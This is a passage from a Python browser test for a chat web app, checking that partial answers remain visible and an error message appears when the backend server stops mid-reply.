    one.said[:] = [line for line in one.said if "401" not in line]


def test_a_server_that_is_gone_is_said_and_what_was_written_stays(opens: Opens) -> None:
    one = opens(bot=saying(["one " * 500], pause=0.01))
    one.page.fill("#message", "Talk")
    one.page.press("#message", "Enter")
    one.until("document.querySelector('.answer .body').innerText.length > 10")
    one.served.server.stop()
    one.served.server.stop()
    one.done()
    assert "shutting down" in one.page.inner_text(".facts") or "connection" in one.page.inner_text(".facts")
    assert one.answers()[0].startswith("one one")
    one.served.thread.join(20)
    one.ask("Again?")
    assert "is it still running" in one.page.locator(".facts").all_inner_texts()[1]
    one.said[:] = [line for line in one.said if "ERR_" not in line]
